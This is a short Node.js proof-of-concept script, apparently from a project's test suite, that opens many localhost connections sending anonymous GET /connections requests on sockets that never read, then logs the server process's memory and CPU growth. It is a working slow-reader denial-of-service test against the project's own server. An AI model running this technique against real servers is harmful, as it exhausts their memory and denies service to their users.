// PoC (H3-3, with slow readers): N anonymous GET /connections (no limit) on sockets that never read.
// Each whole answer is built and queued; a stalled reader holds it until http.sendStallMs (60 s).
// usage: node test/attack-scripts/connections-stalled.mjs <port> <pid> [n=20]
import net from 'node:net'
import fs from 'node:fs'
const [port, pid, n = '20'] = process.argv.slice(2)
const st = () => fs.readFileSync(`/proc/${pid}/status`, 'utf8')
const rss = () => Number(/VmRSS:\s+(\d+)/.exec(st())[1]) / 1024
const hwm = () => Number(/VmHWM:\s+(\d+)/.exec(st())[1]) / 1024
const cpu = () => {
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')
  return (Number(f[11]) + Number(f[12])) / 100
}
fs.writeFileSync(`/proc/${pid}/clear_refs`, '5')
const r0 = rss(),
  c0 = cpu()
const socks = []
for (let i = 0; i < Number(n); i++) {
  const s = net.connect(Number(port), '127.0.0.1')
  s.on('error', () => undefined)
  s.write(`GET /connections HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`)
  s.pause()
  socks.push(s)
}
for (let t = 5; t <= 20; t += 5) {
  await new Promise((r) => setTimeout(r, 5000))
  console.log(
    `${t} s: node RSS ${r0.toFixed(0)} -> ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)}), cpu +${(cpu() - c0).toFixed(1)} s`,
  )
}
for (const s of socks) s.destroy()
